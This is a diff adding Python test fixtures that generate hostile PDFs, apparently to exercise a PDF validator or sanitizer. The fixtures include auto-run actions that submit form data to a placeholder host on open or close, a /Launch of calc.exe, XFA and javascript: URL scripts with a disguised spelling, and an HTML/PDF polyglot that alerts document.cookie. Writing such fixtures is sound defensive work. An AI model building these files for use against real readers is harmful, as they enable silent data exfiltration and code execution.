@@ -278,3 +278,207 @@ def decompression_bomb_pdf(megabytes: int = 400) -> bytes:
             % (len(compressed), compressed),
         }
     )
+
+
+# Active content that runs or sends by itself --------------------------------
+
+
+def _action(kind: str, **entries) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return action
+
+
+def _submit_form() -> DictionaryObject:
+    return _action(
+        "/SubmitForm",
+        F=DictionaryObject(
+            {
+                NameObject("/FS"): NameObject("/URL"),
+                NameObject("/F"): TextStringObject("https://collect.example/form"),
+            }
+        ),
+    )
+
+
+def open_action_submit_form_pdf() -> bytes:
+    """Sends the form's data to a server as soon as the document opens."""
+    writer = _writer()
+    writer._root_object[NameObject("/OpenAction")] = _submit_form()
+    return written(writer)
+
+
+def catalog_additional_action_submit_form_pdf() -> bytes:
+    """Sends the form's data when the document is closed (catalog /AA /WC)."""
+    writer = _writer()
+    writer._root_object[NameObject("/AA")] = DictionaryObject(
+        {NameObject("/WC"): writer._add_object(_submit_form())}
+    )
+    return written(writer)
+
+
+def page_additional_action_import_data_pdf() -> bytes:
+    """Loads form data from another file when the page opens (page /AA /O)."""
+    writer = _writer()
+    action = _action("/ImportData", F=TextStringObject("data.fdf"))
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
+    return written(writer)
+
+
+def annotation_additional_action_remote_go_to_pdf() -> bytes:
+    """Opens another PDF when the pointer enters a link (annotation /AA /E)."""
+    writer = _writer()
+    link = Link(rect=(50, 50, 200, 80), url="https://example.org/")
+    go_to_other_file = _action(
+        "/GoToR",
+        F=TextStringObject("other.pdf"),
+        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
+    )
+    link[NameObject("/AA")] = DictionaryObject({NameObject("/E"): go_to_other_file})
+    writer.add_annotation(page_number=0, annotation=link)
+    return written(writer)
+
+
+def form_field_additional_action_launch_pdf() -> bytes:
+    """Starts a program when a form field's value changes (field /AA /K)."""
+    writer = _writer()
+    field = DictionaryObject(
+        {
+            NameObject("/FT"): NameObject("/Tx"),
+            NameObject("/T"): TextStringObject("amount"),
+            NameObject("/AA"): DictionaryObject(
+                {NameObject("/K"): _action("/Launch", F=TextStringObject("calc.exe"))}
+            ),
+        }
+    )
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject([writer._add_object(field)])}
+    )
+    return written(writer)
+
+
+def chained_open_action_submit_form_pdf() -> bytes:
+    """A harmless open action (go to page 1) followed by a form submission."""
+    writer = _writer()
+    first_page = writer.pages[0].indirect_reference
+    writer._root_object[NameObject("/OpenAction")] = _action(
+        "/GoTo",
+        D=ArrayObject([first_page, NameObject("/Fit")]),
+        Next=writer._add_object(_submit_form()),
+    )
+    return written(writer)
+
+
+def open_action_rich_media_pdf() -> bytes:
+    """Starts a rich media player's script when the document opens."""
+    writer = _writer()
+    writer._root_object[NameObject("/OpenAction")] = _action(
+        "/RichMediaExecute",
+        CMD=DictionaryObject({NameObject("/C"): TextStringObject("play")}),
+    )
+    return written(writer)
+
+
+def rich_media_annotation_pdf() -> bytes:
+    """A Flash/video player placed on the page (a /RichMedia annotation)."""
+    writer = _writer()
+    annotation = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/RichMedia"),
+            NameObject("/Rect"): ArrayObject(
+                [NumberObject(n) for n in (0, 0, 200, 100)]
+            ),
+        }
+    )
+    writer.add_annotation(page_number=0, annotation=annotation)
+    return written(writer)
+
+
+def javascript_link_pdf(url: str = "javascript:app.alert(1)") -> bytes:
+    """A link whose address is a ``javascript:`` URL."""
+    writer = _writer()
+    link = Link(rect=(50, 50, 200, 80), url="https://example.org/")
+    link[NameObject("/A")] = _action("/URI", URI=TextStringObject(url))
+    writer.add_annotation(page_number=0, annotation=link)
+    return written(writer)
+
+
+def disguised_javascript_link_pdf() -> bytes:
+    """``javascript:`` as browsers still read it: spaces, a tab, capitals."""
+    return javascript_link_pdf("  Java\tScript:app.alert(1)")
+
+
+XFA_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
+<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">
+<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
+<subform name="form1"><field name="amount">
+<event activity="initialize">
+<script contentType="application/x-javascript">app.alert("hello");</script>
+</event></field></subform></template></xdp:xdp>"""
+XFA_WITHOUT_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
+<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">
+<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
+<subform name="form1"><field name="amount"/></subform></template></xdp:xdp>"""
+
+
+def _xfa_pdf(template: bytes) -> bytes:
+    writer = _writer()
+    packet = writer._add_object(_stream(template, {}))
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {
+            NameObject("/Fields"): ArrayObject(),
+            NameObject("/XFA"): ArrayObject([TextStringObject("template"), packet]),
+        }
+    )
+    return written(writer)
+
+
+def xfa_script_pdf() -> bytes:
+    """An XFA form whose field runs a script when the form opens."""
+    return _xfa_pdf(XFA_WITH_SCRIPT)
+
+
+def compressed_xfa_script_pdf() -> bytes:
+    """The same form as one compressed stream, as writers usually store it."""
+    writer = _writer()
+    compressed = _stream(XFA_WITH_SCRIPT, {}).flate_encode()
+    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {
+            NameObject("/Fields"): ArrayObject(),
+            NameObject("/XFA"): writer._add_object(compressed),
+        }
+    )
+    return written(writer)
+
+
+def xfa_form_without_script_pdf() -> bytes:
+    return _xfa_pdf(XFA_WITHOUT_SCRIPT)
+
+
+def link_to_another_document_pdf() -> bytes:
+    """A link the reader clicks to open another PDF: allowed."""
+    writer = _writer()
+    link = Link(rect=(50, 50, 200, 80), url="https://example.org/")
+    link[NameObject("/A")] = _action(
+        "/GoToR",
+        F=TextStringObject("annex.pdf"),
+        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
+    )
+    writer.add_annotation(page_number=0, annotation=link)
+    return written(writer)
+
+
+# Files that are not PDFs from their first byte --------------------------------
+
+
+def html_polyglot_pdf() -> bytes:
+    """An HTML page that is also a valid PDF further on: a browser sniffing it
+    would run the page's script."""
+    return b"<html><script>alert(document.cookie)</script><!--\n" + text_pdf(1)
+
+
+def whitespace_before_signature_pdf() -> bytes:
+    """A real PDF preceded by blank lines, as some exporters write: accepted."""
+    return b"\r\n \n" + text_pdf(1)
